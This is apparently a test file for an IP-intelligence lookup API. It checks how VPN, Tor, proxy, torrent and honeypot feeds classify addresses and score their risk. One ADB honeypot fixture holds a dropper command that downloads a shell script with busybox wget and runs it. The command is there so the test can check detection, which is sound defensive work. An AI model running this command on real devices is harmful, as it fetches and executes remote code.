import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { FEEDS, type FeedId } from '../../../src/modules/feeds/feed-catalog.ts';
import type { IntelList } from '../../../src/modules/intel/lists/intel-list.ts';
import { buildTestApp, type TestApp } from '../../helpers/build-test-app.ts';

const DAY_MS = 86_400_000;

async function ingest(app: TestApp, feed: FeedId, ...values: Record<string, unknown>[]) {
  const summary = await app.services.ingest.ingest(FEEDS[feed], [values.map((value, i) => ({ n: i + 1, value }))]);
  assert.equal(summary.rejected, 0, JSON.stringify(summary.errors));
}

async function lookup(app: TestApp, key: string, ip: string, query = '') {
  return app.http.inject({ url: `/api/v4/lookup/ip/${ip}${query}`, headers: { 'x-api-key': key } });
}

const googlebot = (importedAt: number): IntelList => ({
  kind: 'SEARCH_ENGINE',
  provider: 'GOOGLEBOT',
  version: '9f86d081884c7d65',
  imported_at: importedAt,
  published_at: importedAt,
  published_from: 'import',
  format: 'google-prefixes',
  cidrs: ['66.249.64.0/27', '66.249.66.0/27', '2001:4860:4801:10::/64'],
});

describe('IP intelligence through GET /api/v4/lookup/ip/{ip}', () => {
  it('should give an address inside an ingested anonymizer range its provider and type, at once', async (t) => {
    const app = await buildTestApp(t);
    const { key } = await app.team();
    const s = Math.floor(app.clock.now() / 1000);
    await ingest(app, 'anonymizers', {
      range_start: '185.159.157.0',
      range_end: '185.159.157.255',
      provider: 'NORDVPN',
      type: 'COMMERCIAL_VPN',
      timestamp: s,
      country_code: 'CH',
      asn: 62371,
    });
    const res = await lookup(app, key, '185.159.157.42');
    assert.equal(res.statusCode, 200);
    assert.deepEqual(res.json().intelligence, {
      risk_score: 25,
      behavior: [],
      categories: ['COMMERCIAL_VPN'],
      devices: [],
      providers: [{ provider: 'NORDVPN', type: 'COMMERCIAL_VPN', last_seen: s }],
    });
  });

  it('should class a Tor exit and a Googlebot address from imported lists once the store has them', async (t) => {
    const app = await buildTestApp(t);
    const { key } = await app.team();
    const s = Math.floor(app.clock.now() / 1000);
    await app.stores.lists.put(googlebot(s));
    await app.stores.lists.put({
      kind: 'TOR_NODE',
      provider: 'TOR',
      version: '0123456789abcdef',
      imported_at: s,
      published_at: s,
      published_from: 'content',
      format: 'tor-bulk-exit-list',
      cidrs: ['185.220.101.1/32'],
    });
    await app.refreshLists();
    const bot = (await lookup(app, key, '66.249.66.1')).json().intelligence;
    assert.deepEqual(
      [bot.categories, bot.providers],
      [['SEARCH_ENGINE'], [{ provider: 'GOOGLEBOT', type: 'SEARCH_ENGINE', last_seen: s }]],
    );
    assert.equal(bot.risk_score, 0);
    const tor = (await lookup(app, key, '185.220.101.1')).json().intelligence;
    assert.deepEqual([tor.categories, tor.risk_score], [['TOR_NODE'], 60]);
    await app.stores.lists.remove('TOR_NODE', 'TOR');
    await app.refreshLists();
    assert.deepEqual((await lookup(app, key, '185.220.101.1')).json().intelligence.categories, []);
  });

  it('should mark a torrent peer TORRENTING and an ADB dropper source COMPROMISED_DEVICE', async (t) => {
    const app = await buildTestApp(t);
    const { key } = await app.team();
    const now = app.clock.now();
    const s = Math.floor(now / 1000);
    await ingest(app, 'torrents', {
      info_hash: 'a'.repeat(40),
      name: 'ubuntu.iso',
      magnet_uri: `magnet:?xt=urn:btih:${'a'.repeat(40)}`,
      total_size: 10,
      piece_length: 1,
      file_count: 1,
      files: [{ path: 'ubuntu.iso', length: 10 }],
      peers: [{ ip: '73.12.34.56', port: 51413, source: 'DHT', encrypted: true }],
      timestamp: s,
    });
    const command = Buffer.from('shell:cd /data/local/tmp; busybox wget http://203.0.113.9/w.sh; sh w.sh');
    await ingest(app, 'honeypot_adb', {
      session: 'abc123',
      sequential_id: 1,
      command: command.toString('base64'),
      hash: createHash('sha256').update(command).digest('hex'),
      timestamp: now,
      source_ip: '198.51.100.7',
    });
    assert.deepEqual((await lookup(app, key, '73.12.34.56')).json().intelligence.behavior, ['TORRENTING']);
    const dropper = (await lookup(app, key, '198.51.100.7')).json().intelligence;
    assert.deepEqual(dropper.behavior, ['COMPROMISED_DEVICE', 'MALICIOUS_TRAFFIC']);
    assert.ok(dropper.risk_score >= 80);
  });

  it('should let a proxy sighting age out after 90 days', async (t) => {
    const app = await buildTestApp(t);
    const { key } = await app.team();
    const s = Math.floor(app.clock.now() / 1000);
    await ingest(app, 'proxies', {
      ip: '109.176.45.49',
      provider: 'BRIGHTDATA',
      type: 'RESIDENTIAL_PROXY',
      timestamp: s,
      country_code: 'US',
      asn: 16276,
    });
    assert.deepEqual((await lookup(app, key, '109.176.45.49')).json().intelligence.categories, ['RESIDENTIAL_PROXY']);
    app.clock.advance(90 * DAY_MS + 1000);
    assert.deepEqual((await lookup(app, key, '109.176.45.49')).json().intelligence, {
      risk_score: 0,
      behavior: [],
      categories: [],
      devices: [],
      providers: [],
    });
  });

  it('should rebuild the index from the feed log at start', async (t) => {
    const first = await buildTestApp(t);
    const s = Math.floor(first.clock.now() / 1000);
    await ingest(first, 'proxies', {
      ip: '109.176.45.49',
      provider: 'OXYLABS',
      type: 'DATACENTER_PROXY',
      timestamp: s,
      country_code: 'US',
      asn: 16276,
    });
    // A second app on the same stores (the restart) replays the durable log.
    const second = await buildTestApp(t, { stores: first.stores, clock: first.clock });
    const { key } = await second.team();
    assert.deepEqual((await lookup(second, key, '109.176.45.49')).json().intelligence.providers, [
      { provider: 'OXYLABS', type: 'DATACENTER_PROXY', last_seen: s },
    ]);
  });

  it('should add evidence with explain=true at the same price, and refuse anything but true or false', async (t) => {
    const app = await buildTestApp(t);
    const { key } = await app.team({ credits: 10 });
    const s = Math.floor(app.clock.now() / 1000);
    await app.stores.lists.put({
      kind: 'TOR_NODE',
      provider: 'TOR',
      version: '0123456789abcdef',
      imported_at: s - 60,
      published_at: s - 3600,
      published_from: 'content',
      format: 'tor-bulk-exit-list',
      cidrs: ['185.220.101.1/32'],
    });
    await app.refreshLists();
    const plain = await lookup(app, key, '185.220.101.1', '?explain=false');
    assert.equal(plain.statusCode, 200);
    assert.equal(plain.json().evidence, undefined);
    const res = await lookup(app, key, '185.220.101.1', '?explain=true');
    assert.equal(res.statusCode, 200);
    assert.equal(res.headers['x-credits-remaining'], '8');
    const body = res.json();
    assert.deepEqual(Object.keys(body), ['ip', 'network', 'location', 'intelligence', 'evidence']);
    const listSource = {
      source: 'list',
      kind: 'TOR_NODE',
      provider: 'TOR',
      version: '0123456789abcdef',
      format: 'tor-bulk-exit-list',
      imported_at: s - 60,
      published_at: s - 3600,
      published_from: 'content',
      state: 'current',
      strength: 1,
      first_seen: s - 3600,
      last_seen: s - 3600,
      count: 1,
    };
    assert.deepEqual(body.evidence, {
      network: { type: 'UNKNOWN', source: 'none', reason: 'the IP dataset does not record where its types come from' },
      categories: [{ category: 'TOR_NODE', sources: [listSource] }],
      providers: [{ provider: 'TOR', type: 'TOR_NODE', sources: [listSource] }],
      behavior: [],
      devices: [],
      // The test dataset has no network for this address (UNKNOWN: no prior); nothing observed, so the list alone.
      risk: {
        score: 60,
        prior: { value: 0, from: null },
        category: { value: 60, from: 'TOR_NODE' },
        behavior: { value: 0, from: null },
        volume: { value: 0.55, observations: 0 },
        diversity: { value: 1, behaviors: 0 },
        shared: { value: 0.6, from: 'TOR_NODE' },
        evidence: 0,
        benign_cap: false,
      },
    });
    for (const bad of ['maybe', '1', 'TRUE', '']) {
      const r = await lookup(app, key, '185.220.101.1', `?explain=${bad}`);
      assert.equal(r.statusCode, 400, bad);
      assert.equal(r.headers['content-type'], 'application/problem+json');
      assert.equal(r.json().title, 'Validation error');
      // Words a client can act on, never the validator's own (`must be equal to constant; … anyOf`).
      assert.deepEqual(r.json().errors, { explain: ['must be true or false'] }, bad);
      assert.equal(r.json().detail, 'explain: must be true or false');
    }
    const after = await lookup(app, key, '8.8.8.8');
    assert.equal(after.headers['x-credits-remaining'], '7', 'the refused requests were not charged');
  });
});

describe('network.type and owner from imported network lists', () => {
  it("should type a cloud's listed address DATACENTER, give it the cloud's ASN where the ASN data has none, and say why", async (t) => {
    const app = await buildTestApp(t);
    const { key } = await app.team();
    const s = Math.floor(app.clock.now() / 1000);
    await app.stores.lists.put({
      kind: 'DATACENTER',
      provider: 'AWS',
      version: '00112233445566aa',
      imported_at: s,
      published_at: s,
      published_from: 'content',
      format: 'aws-ip-ranges',
      cidrs: ['3.5.140.0/22', '8.8.8.0/28'],
    });
    await app.refreshLists();
    const res = await lookup(app, key, '3.5.140.1', '?explain=true');
    assert.equal(res.statusCode, 200);
    const body = res.json();
    assert.deepEqual(body.network, {
      asn: 16509,
      isp: 'Amazon.com, Inc.',
      type: 'DATACENTER',
      org: 'Amazon.com, Inc.',
      domain: 'amazon.com',
      abuse_email: null,
      abuse_phone: null,
      bogon: false,
      anycast: false,
    });
    assert.deepEqual(body.evidence.network, {
      type: 'DATACENTER',
      source: 'list',
      reason:
        'the address is in the imported DATACENTER list of AWS (published 2026-11-22); the ASN data says UNKNOWN (the IP dataset does not record where its types come from); ' +
        "the ASN data has no ASN for it, so it is the publisher's AS16509",
    });
    // The ASN data's owner stays where it has one.
    assert.equal((await lookup(app, key, '8.8.8.1')).json().network.asn, 15169);

    // The list ages with no new import: the lists are loaded again each UTC day. At 100 days it is stale
    // and still types the address; at 730 days (published cloud ranges) it asserts nothing any more.
    app.clock.advance(100 * 86_400_000);
    await app.refreshLists();
    const stale = (await lookup(app, key, '3.5.140.1', '?explain=true')).json();
    assert.equal(stale.network.type, 'DATACENTER');
    assert.match(stale.evidence.network.reason, /^the address is in the imported DATACENTER list of AWS \(published 2026-11-22, stale\);/);
    app.clock.advance(630 * 86_400_000);
    await app.refreshLists();
    const expired = (await lookup(app, key, '3.5.140.1', '?explain=true')).json();
    assert.equal(expired.network.type, 'UNKNOWN');
    assert.equal(expired.network.asn, 0, 'nor does it lend the publisher its ASN');
    assert.equal(expired.evidence.network.source, 'none');
  });
});

describe('Per-team intelligence overlays', () => {
  it("should change one team's lookups within the poll interval and never another team's", async (t) => {
    const app = await buildTestApp(t, { listsRefreshMs: 20 });
    const a = await app.team({ name: 'overlay-a' });
    const b = await app.team({ name: 'overlay-b' });
    const { OverlayService } = await import('../../../src/modules/intel/overlays/overlay-service.ts');
    const overlays = new OverlayService(app.stores.overlays, app.stores.accounts, app.clock);
    await overlays.add({ org: 'overlay-a', cidr: '203.0.113.0/24', category: 'botnet', action: 'deny' });
    // The server polls the store (5 s by default, 20 ms here): wait for it, bounded. Generously: on a
    // machine at load 15 the poll timer fired only every 1.1-1.5 s, and a 2 s bound failed 1 run in 3.
    const deadline = Date.now() + 10_000;
    let seen: { categories: string[] } | undefined;
    while (Date.now() < deadline) {
      seen = (await lookup(app, a.key, '203.0.113.77')).json().intelligence;
      if (seen!.categories.length > 0) break;
      await new Promise((r) => setTimeout(r, 20));
    }
    assert.deepEqual(seen!.categories, ['BOTNET']);
    const other = (await lookup(app, b.key, '203.0.113.77')).json();
    assert.deepEqual(other.intelligence, { risk_score: 0, behavior: [], categories: [], devices: [], providers: [] });
    const batch = await app.http.inject({
      method: 'POST',
      url: '/api/v4/lookup/ips',
      headers: { 'x-api-key': b.key },
      payload: { ips: ['203.0.113.77'] },
    });
    assert.deepEqual(batch.json().results[0].intelligence.categories, []);
    const batchA = await app.http.inject({
      method: 'POST',
      url: '/api/v4/lookup/ips',
      headers: { 'x-api-key': a.key },
      payload: { ips: ['203.0.113.77'] },
    });
    assert.deepEqual(batchA.json().results[0].intelligence.categories, ['BOTNET']);
    assert.equal(await overlays.clear('overlay-a'), 1);
    await app.refreshLists();
    assert.deepEqual((await lookup(app, a.key, '203.0.113.77')).json().intelligence.categories, []);
  });
});
